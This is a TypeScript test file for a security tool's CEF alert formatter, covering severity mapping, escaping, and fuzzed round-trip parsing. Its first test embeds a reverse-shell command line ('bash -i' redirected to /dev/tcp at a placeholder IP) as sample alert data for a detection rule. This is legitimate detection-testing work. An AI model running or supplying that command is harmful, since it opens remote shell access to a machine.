import { test } from 'node:test';
import assert from 'node:assert/strict';
import { CEF_SEVERITY, escapeCefExtension, escapeCefHeader, formatCef } from './cef.ts';
import { hostileAlert, hostileString, rng, sampleAlert } from './testing/alerts.ts';
import { parseCef } from './testing/parse-cef.ts';

test('a plain alert, byte for byte', () => {
  const a = sampleAlert({ alert_uuid: '00000000-0000-4000-8000-000000000001', first_seen: '2026-03-01T10:00:05.123Z', last_seen: '2026-03-01T10:05:00.000Z', occurrences: 2 });
  assert.equal(formatCef(a, '1.2.3'),
    'CEF:0|DaemonEye|DaemonEye|1.2.3|DE-LNX-0001|Reverse shell|7|rt=1772359205123 start=1772359205123 end=1772359500000 ' +
    'dvchost=web-01 externalId=00000000-0000-4000-8000-000000000001 msg=bash -i with its stdin on a TCP socket dpid=4242 dproc=bash ' +
    'filePath=/usr/bin/bash cs1Label=mitreAttackIds cs1=T1059.004,T1071 cs2Label=ruleTags cs2=execution,command_and_control,linux ' +
    'cs3Label=commandLine cs3=bash -i >& /dev/tcp/203.0.113.7/4444 0>&1 cn1Label=occurrences cn1=2 cn2Label=ruleVersion cn2=3');
});

test('severities: low 3, medium 5, high 7, critical 10', () => {
  assert.deepEqual(CEF_SEVERITY, { low: 3, medium: 5, high: 7, critical: 10 });
  for (const [s, n] of Object.entries(CEF_SEVERITY)) assert.equal(parseCef(formatCef(sampleAlert({ severity: s as 'low' }), '1')).severity, String(n));
});

test('escaping: | and \\ in the header; \\, = and line breaks in extensions; | needs none there', () => {
  assert.equal(escapeCefHeader('a|b\\c\nd'), 'a\\|b\\\\c\\nd');
  assert.equal(escapeCefExtension('a=b\\c\r\nd|e'), 'a\\=b\\\\c\\r\\nd|e');
  assert.equal(escapeCefHeader('\ud800x'), '\ufffdx', 'lone surrogates become U+FFFD');
});

test('fuzz: 500 hostile alerts are one line each and parse back to the same fields', () => {
  const next = rng(2026);
  for (let i = 0; i < 500; i++) {
    const a = hostileAlert(next, i % 50 === 0);
    const line = formatCef(a, hostileString(next, 4) || '1');
    assert.ok(!/[\r\n]/.test(line), `case ${i}: one line`);
    const c = parseCef(line);
    const want = (v: string | null) => (v === null || v === '' ? undefined : v.toWellFormed());
    assert.equal(c.name, a.rule_name.toWellFormed(), `case ${i}: name`);
    assert.equal(c.extensions['msg'], want(a.summary), `case ${i}: msg`);
    assert.equal(c.extensions['dvchost'], want(a.host), `case ${i}: dvchost`);
    assert.equal(c.extensions['dproc'], want(a.process_name), `case ${i}: dproc`);
    assert.equal(c.extensions['filePath'], want(a.executable_path), `case ${i}: filePath`);
    assert.equal(c.extensions['cs3'], want(a.command_line), `case ${i}: cs3`);
    assert.equal(c.extensions['externalId'], a.alert_uuid);
  }
});
